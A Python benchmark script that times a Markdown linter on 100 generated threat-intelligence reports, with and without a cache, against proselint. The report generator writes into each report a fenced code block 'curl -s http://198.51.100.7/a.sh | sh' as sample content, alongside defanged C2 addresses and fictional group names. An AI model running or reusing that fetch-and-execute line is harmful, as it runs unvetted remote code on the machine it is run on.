"""How long `lint` takes: 100 Markdown reports without and with the cache, beside a peer.

python benchmarks/bench_lint.py [--data-dir DIR] [--rounds N] [--size KIB]

The reports are made here: sections, tables, lists, code and claims. The peer is proselint, a prose
linter in Python (left out where it is not installed); the yardstick is Python finding all words.
"""

from __future__ import annotations

import argparse
import os
import random
import re
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from pathlib import Path

FILES = 100
SENTENCES = (
    "The loader asked its server for orders every {n} minutes and kept the answers.",
    "We assess with moderate confidence that the intrusion was the work of {g}.",
    "The server at {a} answered on port {p} until 2026-0{m}-1{d}.",
    "It is likely that those behind {g} bought access from somebody else.",
    "The archive was opened on {n} workstations of the finance department.",
    "There is not enough evidence to attribute the activity to any government.",
    "Passwords were reset, and the mail rules that the intruder had left were taken out.",
    "{g} has been linked to {c} by two vendors [3], both on the strength of code that they share.",
    "The address {a} is registered in {c}; the registry names who holds the block.",
    "Traffic to {a} stopped when the route was withdrawn at 2026-0{m}-1{d}T0{d}:15Z.",
)
GROUPS = ("APT990", "Silent Heron", "UNC9901", "Paper Lantern")
COUNTRIES = ("North Korea", "France", "Australia", "Brazil", "Norway")


def sentence(random_: random.Random) -> str:
    """A sentence of a report."""
    return random_.choice(SENTENCES).format(
        n=random_.randrange(2, 90),
        g=random_.choice(GROUPS),
        c=random_.choice(COUNTRIES),
        a=f"198.51.100[.]{random_.randrange(256)}",
        p=random_.randrange(1024, 65536),
        m=random_.randrange(1, 10),
        d=random_.randrange(10),
    )


def report(random_: random.Random, size: int) -> str:
    """A report of about `size` bytes."""
    parts = [f"# Intrusion {random_.randrange(10**6)}", "Published: 2026-08-30"]
    length = 0
    while length < size:
        parts.append(f"## Phase {len(parts)}")
        parts += [" ".join(sentence(random_) for _ in range(6)) for _ in range(3)]
        parts.append("\n".join(f"- {sentence(random_)}" for _ in range(4)))
        rows = [
            f"| 198.51.100[.]{random_.randrange(256)} | 2026-08-0{random_.randrange(1, 10)} | C2 |"
            for _ in range(5)
        ]
        parts.append("\n".join(["| address | first seen | role |", "|---|---|---|", *rows]))
        parts.append("```\ncurl -s http://198.51.100.7/a.sh | sh\n```")
        length = sum(map(len, parts))
    return "\n\n".join(parts) + "\n"


def timed(run: Callable[[], None], rounds: int) -> float:
    """Median seconds of a run."""
    seconds = []
    for _ in range(rounds):
        start = time.perf_counter()
        run()
        seconds.append(time.perf_counter() - start)
    return statistics.median(seconds)


def command(words: Sequence[str], cache: str, folder: Path) -> Callable[[], None]:
    """A run of a program over the folder."""

    def run() -> None:
        subprocess.run(
            words,
            cwd=folder,
            env=os.environ | {"IPSKEPTIC_CACHE_DIR": cache},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            check=False,
        )

    return run


def real_reports(folder: Path) -> Path | None:
    """The corpus' reports in Markdown, again and again; None where it is not there."""
    corpus = Path(__file__).resolve().parent.parent.parent / "shared" / "corpus" / "documents"
    found = sorted(corpus.glob("d*/document.md"))
    if not found:
        return None
    folder.mkdir()
    for number in range(FILES):
        shutil.copy(found[number % len(found)], folder / f"r{number:03}.md")
    return folder


def main() -> int:
    """Measure and print."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--data-dir", default="")
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--size", type=int, default=15, help="KiB of a report")
    given = parser.parse_args()
    random_ = random.Random(5)
    with tempfile.TemporaryDirectory() as name:
        folder, cache = Path(name, "reports"), Path(name, "cache")
        folder.mkdir()
        for number in range(FILES):
            text = report(random_, given.size * 1024)
            (folder / f"r{number:03}.md").write_text(text, "utf-8")
        data = ["--data-dir", os.path.abspath(given.data_dir)] if given.data_dir else []
        lint = [sys.executable, "-m", "ipskeptic", "lint", ".", "--isolated", "-q", *data]
        size = sum(path.stat().st_size for path in folder.iterdir())
        print(f"{FILES} reports, {size / 1e6:.2f} MB, median of {given.rounds}")
        words = re.compile(r"\w+")
        plain = timed(
            lambda: [words.findall(path.read_text("utf-8")) for path in folder.iterdir()] and None,
            given.rounds,
        )
        print(f"  {'all words, in this process':34} {plain:7.3f} s")
        runs = [
            ("lint, nothing kept", command(lint, "", folder)),
            ("lint, from the cache", command(lint, str(cache), folder)),
            ("one report", command([*lint[:4], "r000.md", *lint[5:]], "", folder)),
        ]
        runs[1][1]()  # fills the cache
        for label, run in runs:
            seconds = timed(run, given.rounds)
            print(f"  {label:34} {seconds:7.3f} s   {seconds / plain:6.1f} x all words")
        real = real_reports(Path(name, "real"))
        if real is not None:
            size = sum(path.stat().st_size for path in real.iterdir())
            seconds = timed(command(lint, "", real), given.rounds)
            print(f"  {f'{FILES} real ones, {size / 1e6:.2f} MB':34} {seconds:7.3f} s")
        peer = [sys.executable, "-m", "proselint", "check", *sorted(os.listdir(folder))[:10]]
        try:
            import proselint  # noqa: F401
        except ImportError:
            print("  proselint: not installed")
        else:
            seconds = timed(command(peer, "", folder), 1) * FILES / 10
            print(f"  {'proselint (10 reports, times 10)':34} {seconds:7.3f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
